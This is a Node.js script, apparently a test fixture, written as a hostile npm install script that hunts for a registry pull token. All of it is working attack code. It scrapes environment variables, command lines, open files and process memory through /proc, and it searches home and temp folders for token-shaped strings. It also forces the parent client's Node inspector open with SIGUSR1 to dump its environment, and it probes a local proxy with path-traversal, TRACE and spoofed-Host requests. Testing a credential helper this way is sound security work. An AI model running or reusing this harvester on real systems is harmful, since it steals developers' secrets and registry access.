'use strict';
// An install script that is after the credential. It looks wherever a process of this user can look and writes
// down, by place, every text that has the form of a pull token, or of base64 long enough to hold one.
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');
const tls = require('node:tls');

const TOKEN = /eyJ[\w-]{10,}\.[\w-]{20,}\.[\w-]{40,}|[A-Za-z0-9+/]{400,}={0,2}/g;
/** The processes from here up to this one are looked at. */
const TOP = Number(process.env['HUNT_TOP']);
/** Beyond it lies the binary's own code, or memory that is shared with everybody. */
const REGION = 64 * 1024 * 1024;

const found = {};
const look = (place, text) => {
  const tokens = (found[place] ??= []);
  for (const [token] of String(text).matchAll(TOKEN)) if (tokens.length < 5000) tokens.push(token.slice(0, 20_000));
};
const attempt = (place, act) => {
  found[place] ??= [];
  try {
    act();
  } catch (error) {
    (found['refused'] ??= []).push(`${place}: ${error.code ?? error.message}`);
  }
};

// Processes, from this one upwards.
const family = [];
for (let pid = process.pid; pid > 1 && pid !== TOP; ) {
  family.push(pid);
  const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
  pid = Number(/^PPid:\s*(\d+)/m.exec(status)?.[1] ?? 0);
}
const programs = family.map((pid) => fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim());
const kind = (index) => (index === 0 ? 'the script itself' : programs[index] === 'pulltoken' ? 'pulltoken' : 'what runs between');
// Whatever stands above pulltoken started it.
const ours = programs.lastIndexOf('pulltoken');
// An agent is nobody's ancestor; the shell that started it is the outermost here.
const outermost = ours >= 0 ? ours + 1 : family.length - 1;
for (const [index, pid] of family.entries()) search(pid, index >= outermost ? 'what started pulltoken' : kind(index));
for (const name of fs.readdirSync('/proc').filter((it) => /^\d+$/.test(it) && !family.includes(Number(it)))) {
  attempt('processes', () => {
    if (fs.readFileSync(`/proc/${name}/comm`, 'utf8').trim() !== 'pulltoken') return;
    programs.push('pulltoken');
    search(Number(name), 'pulltoken');
  });
}

function search(pid, who) {
  attempt(`environment of ${who}`, () => look(`environment of ${who}`, fs.readFileSync(`/proc/${pid}/environ`, 'latin1')));
  attempt(`arguments of ${who}`, () => look(`arguments of ${who}`, fs.readFileSync(`/proc/${pid}/cmdline`, 'latin1')));
  attempt(`open files of ${who}`, () => {
    for (const name of fs.readdirSync(`/proc/${pid}/fd`)) {
      try {
        const file = fs.openSync(`/proc/${pid}/fd/${name}`, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
        if (fs.fstatSync(file).isFile()) look(`open files of ${who}`, fs.readFileSync(file, 'latin1').slice(0, REGION));
        fs.closeSync(file);
      } catch {
        // A socket, say.
      }
    }
  });
  // Its own memory holds what it has just read.
  if (pid !== process.pid) attempt(`memory of ${who}`, () => memory(pid, `memory of ${who}`));
}

function memory(pid, place) {
  const maps = fs.readFileSync(`/proc/${pid}/maps`, 'utf8').trim().split('\n');
  const file = fs.openSync(`/proc/${pid}/mem`, 'r');
  for (const line of maps) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === undefined) continue;
    const [start, length] = [BigInt(`0x${from}`), Number(BigInt(`0x${to}`) - BigInt(`0x${from}`))];
    if (length > REGION) continue;
    const bytes = Buffer.alloc(length);
    try {
      look(place, bytes.toString('latin1', 0, fs.readSync(file, bytes, 0, length, start)));
    } catch {
      // Not there any more.
    }
  }
  fs.closeSync(file);
}

// Files, caches included.
const folders = [process.env['HOME'], process.env['TMPDIR'], process.env['XDG_RUNTIME_DIR'], process.env['INIT_CWD'], '/dev/shm'];
for (const folder of folders.filter((it) => it !== undefined)) {
  const place = folder === '/dev/shm' || folder === process.env['XDG_RUNTIME_DIR'] ? 'run-time folders' : 'files';
  attempt(place, () => {
    for (const entry of fs.readdirSync(folder, { recursive: true, withFileTypes: true })) {
      const name = path.join(entry.parentPath ?? entry.path, entry.name);
      const isCache = place === 'files' && (name.includes('/pulltoken/') || name.includes('/chainguard/'));
      try {
        if (entry.isFile() && fs.statSync(name).size < REGION && name !== process.env['HUNT_RESULT']) {
          look(isCache ? 'the cache of pulltoken' : place, fs.readFileSync(name, 'latin1'));
          (found[`files seen in ${place}`] ??= []).push(name);
        }
      } catch {
        // Gone, or somebody else's.
      }
    }
  });
}
found['the cache of pulltoken'] ??= [];

// What it would give to anybody who asks as this user.
const get = spawnSync(process.env['HUNT_PULLTOKEN'], ['get', '--repository', 'javascript', '-o', 'json'], { encoding: 'utf8' });
look('`pulltoken get`', get.stdout ?? '');

// The client's inspector, which a signal of the same user's opens.
const INSPECT = `
process.kill(Number(process.argv[1]), 'SIGUSR1');
// What the client says of it, the script cannot hear: it has to ask again and again.
const pause = () => new Promise((resolve) => setTimeout(resolve, 50));
(async () => {
  let targets;
  for (let left = 160; targets === undefined && left > 0; left -= 1) {
    targets = await fetch('http://127.0.0.1:9229/json').then((it) => it.json(), pause);
  }
  if (targets === undefined) return;
  const socket = new WebSocket(targets[0].webSocketDebuggerUrl);
  await new Promise((resolve) => (socket.onopen = resolve));
  const params = { expression: 'JSON.stringify(process.env)', returnByValue: true };
  const answer = new Promise((resolve) => (socket.onmessage = ({ data }) => resolve(data)));
  socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params }));
  console.log(await answer);
  process.exit();
})();
`;
const client = family[outermost - (ours >= 0 ? 2 : 1)];
found['the inspector of the client'] = [];
found['the inspector answered'] = [];
if (client !== undefined) {
  const seen = spawnSync('node', ['--experimental-websocket', '-e', INSPECT, String(client)], { encoding: 'utf8', timeout: 15_000 });
  look('the inspector of the client', seen.stdout);
  if (seen.stdout.includes('PATH')) found['the inspector answered'].push('yes');
}
if (ours >= 0) attempt('a signal to pulltoken', () => process.kill(family[ours], 'SIGUSR1'));

// The proxy: what it adds upstream it may show in an answer, or take where it is told to.
found['used through the proxy'] = [];
found['the answers of the proxy'] = [];
const proxy = Object.values(process.env).find((value) => /^http:\/\/[^/]+@127\.0\.0\.1:\d+\/?$/.test(value ?? ''));
const registry = process.env['npm_config_registry'];
const authorities = process.env['npm_config_cafile'];
const finish = () => fs.writeFileSync(process.env['HUNT_RESULT'], JSON.stringify({ found, programs }));

/** One request to the registry's host, through the proxy; what comes back, headers and all. */
function ask(lines) {
  const { hostname, port, username, password } = new URL(proxy);
  const host = new URL(registry).hostname;
  const headers = { 'proxy-authorization': `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}` };
  return new Promise((resolve) => {
    const failed = (error) => resolve(String(error.message));
    const request = http.request({ host: hostname, port, method: 'CONNECT', path: `${host}:443`, headers });
    request.on('connect', (_, socket) => {
      const inner = tls.connect({ socket, servername: host, ca: fs.readFileSync(authorities) }, () => {
        inner.write([...lines, 'connection: close', '', ''].join('\r\n'));
      });
      let text = '';
      inner.on('data', (part) => (text += part.toString('latin1'))).on('close', () => resolve(text)).on('error', failed);
      inner.setTimeout(5000, () => inner.destroy());
    });
    request.on('error', failed).end();
  });
}

(async () => {
  if (proxy !== undefined && registry !== undefined && authorities !== undefined) {
    const { host, pathname } = new URL(registry);
    const answers = await Promise.all([
      ask([`GET ${pathname}left-hand HTTP/1.1`, `host: ${host}`]),
      ask([`TRACE ${pathname}left-hand HTTP/1.1`, `host: ${host}`]),
      ask([`GET ${pathname}..%2f..%2ftoken HTTP/1.1`, `host: ${host}`]),
      ask([`GET ${pathname}-/whoami HTTP/1.1`, `host: ${host}`]),
      ask([`GET ${pathname}left-hand HTTP/1.1`, 'host: elsewhere.example', 'authorization: Basic eDp5']),
      ask(['GET http://elsewhere.example/ HTTP/1.1', `host: ${host}`]),
    ]);
    for (const text of answers) look('the answers of the proxy', text);
    if (/^HTTP\/1\.1 200/.test(answers[0])) found['used through the proxy'].push('200');
  }
  finish();
})();
